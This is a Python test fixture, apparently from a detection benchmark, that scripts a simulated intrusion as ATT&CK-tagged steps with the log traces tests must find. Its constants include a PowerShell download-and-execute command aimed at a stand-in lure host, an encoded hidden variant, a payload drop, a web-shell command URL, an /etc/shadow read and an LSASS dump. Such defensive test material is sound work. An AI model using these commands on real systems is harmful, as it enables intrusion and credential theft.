"""The attack as a table: when, which step, which technique of ATT&CK, on which host, what, and the trace it leaves.

`bench.day.attack` makes the records; a test looks for each trace in the log that is named here.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from datetime import date
from typing import Final

from bench.day.company import ATTACKER, CONTROL

SEED: Final = 20260310
DAY: Final = date(2026, 3, 10)

VICTIM: Final = "mika"
DESK: Final = "ws07"
SENDER: Final = "accounts@example-com.example.net"
LURE: Final = "files.example-com.example.net"
DROPPED: Final = r"C:\Users\Public\upd.exe"
BOOK: Final = rf"C:\Users\{VICTIM}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K2J4QX1B\invoice_0310.xlsm"
FETCH: Final = f"IEX (New-Object Net.WebClient).DownloadString('http://{LURE}/a.ps1')"
HIDDEN: Final = f"powershell.exe -NoP -W Hidden -Enc {base64.b64encode(FETCH.encode('utf-16-le')).decode()}"
SAVE: Final = f"(New-Object Net.WebClient).DownloadFile('http://{LURE}/upd', '{DROPPED}')"
DUMP: Final = r"C:\Users\Public\l.dmp"
ROASTED: Final = ("svc-sql", "svc-web", "svc-scan", "svc-print", "svc-backup")
STOLEN: Final = "svc-backup"
STOLEN_LOGON: Final = "0x5d1a2c7"
PLANTED: Final = "helpdesk2"
SHELL: Final = "/uploads/img_0417.php"
LOOT: Final = r"C:\Users\Public\p.7z"
LOOT_BYTES: Final = 4_318_552_071
TUNNELLED: Final = "10.30.0.66"


@dataclass(frozen=True)
class Step:
    """One thing that the attacker does."""

    at: str
    step: int
    technique: str
    host: str
    log: str
    trace: str  # stands in a record of this log at this time
    what: str


_SYSMON, _BEAT, _ASA = "sysmon.json", "winlogbeat.json", "asa.log"
STEPS: Final = tuple(
    Step(*row)
    for row in (
        ("08:52:04", 1, "T1566.001", "mail01", "mail.log", SENDER,
         f"A mail with a workbook comes to {VICTIM} from a sender that looks like the house"),
        ("09:17:04", 2, "T1204.002", DESK, _SYSMON, "invoice_0310.xlsm", f"{VICTIM} opens the workbook"),
        ("09:17:31", 2, "T1059.001", DESK, _SYSMON, "-NoP -W Hidden -Enc ",
         "Its macro starts PowerShell, hidden and encoded"),
        ("09:17:33", 2, "T1059.001", DESK, _BEAT, FETCH, "The script block that fetches the next stage"),
        ("09:17:33", 2, "T1071.001", DESK, _SYSMON, LURE, "The name is looked up, the connection opened"),
        ("09:17:34", 2, "T1071.001", "fw01", _ASA, f"outside:{CONTROL}/80", "The firewall lets the connection out"),
        ("09:18:20", 2, "T1105", DESK, _SYSMON, r"C:\\Users\\Public\\upd.exe",
         "A program is dropped where anybody may write"),
        ("09:19:02", 3, "T1547.001", DESK, _SYSMON, r"CurrentVersion\\Run\\Updater",
         "A Run key starts it at every logon"),
        ("09:20:00", 3, "T1071.001", "fw01", _ASA, f"outside:{CONTROL}/443",
         "It reports to its master every twenty minutes from now on"),
        ("09:21:40", 3, "T1053.005", DESK, _SYSMON, "schtasks", "So does a scheduled task"),
        ("09:24:10", 3, "T1033", DESK, _SYSMON, "whoami", "Who am I?"),
        ("09:24:31", 3, "T1069.002", DESK, _SYSMON, "Domain Admins", "Who rules the domain?"),
        ("09:25:05", 3, "T1482", DESK, _SYSMON, "nltest", "Whom does the domain trust, which are its controllers?"),
        ("09:46:50", 4, "T1003.001", DESK, _SYSMON, "0x1410", "The memory of LSASS is read"),
        ("09:47:12", 4, "T1003.001", DESK, _SYSMON, "comsvcs.dll", "And dumped to a file with a library of Windows"),
        ("10:05:20", 5, "T1558.003", "dc01", _BEAT, '"TicketEncryptionType":"0x17"',
         "Tickets with weak encryption for five service accounts"),
        ("10:12:00", 5, "T1110.003", "dc01", _BEAT, '"event_id":"4625"', "One password tried on every account"),
        ("10:31:12", 5, "T1078.002", DESK, _BEAT, '"event_id":"4648"',
         f"The cracked account {STOLEN} is used from the desk"),
        ("10:31:13", 6, "T1021.002", "file01", _BEAT, STOLEN_LOGON,
         f"{STOLEN} logs on to the file server over the network"),
        ("10:42:03", 6, "T1021.002", "file01", _BEAT, "ADMIN$", "Administrative shares are opened"),
        ("10:42:09", 6, "T1543.003", "file01", _BEAT, '"event_id":"7045"',
         "A service is installed that runs the dropped program"),
        ("10:42:11", 6, "T1569.002", "file01", _SYSMON, "upd.exe -svc", "The service starts it as SYSTEM"),
        ("10:55:02", 6, "T1136.001", "file01", _BEAT, PLANTED, f"A local account {PLANTED} is made"),
        ("10:55:03", 6, "T1098.007", "file01", _BEAT, "S-1-5-32-544", "And put among the administrators"),
        ("21:43:12", 7, "T1133", "fw01", _ASA, f"User <{VICTIM}> IP <{ATTACKER}>",
         f"AnyConnect is tried with {VICTIM}'s password, at night, from abroad"),
        ("21:47:10", 7, "T1133", "vpn01", "openvpn.log", f"{VICTIM}/{ATTACKER}", "OpenVPN gives the way in"),
        ("21:52:30", 7, "T1021.004", "jump01", "auth.log", f"Accepted password for daniel from {TUNNELLED}",
         "To the jump host with a password out of LSASS"),
        ("21:54:02", 7, "T1021.004", "web01", "auth.log", "Accepted password for daniel", "On to the web server"),
        ("21:55:40", 7, "T1003.008", "web01", "auth.log", "/usr/bin/cat /etc/shadow",
         "The password hashes are read with root's rights"),
        ("22:03:15", 7, "T1505.003", "web01", "auth.log", "img_0417.php", "A script is put among the shop's pictures"),
        ("22:04:01", 7, "T1505.003", "web01", "nginx/access.log", f"{SHELL}?cmd=id", "It takes commands from anywhere"),
        ("22:20:37", 8, "T1560.001", "file01", _SYSMON, r"C:\\Users\\Public\\p.7z",
         "The accounts and the projects go into an archive"),
        ("22:38:04", 8, "T1041", "file01", _SYSMON, CONTROL, "The archive begins to leave"),
        ("23:21:40", 8, "T1041", "fw01", _ASA, f"bytes {LOOT_BYTES}", "It is gone: 4.3 GB in one connection"),
        ("23:31:09", 9, "T1070.001", "file01", _BEAT, '"event_id":"1102"', "The file server's security log is cleared"),
    )
)  # fmt: skip


def table() -> str:
    """Return the story as a table in Markdown."""
    rows = [
        "| time | step | technique | host | what happens | log |",
        "|---|---|---|---|---|---|",
        *(f"| {s.at} | {s.step} | {s.technique} | {s.host} | {s.what} | `{s.log}` |" for s in STEPS),
    ]
    return "\n".join(rows)
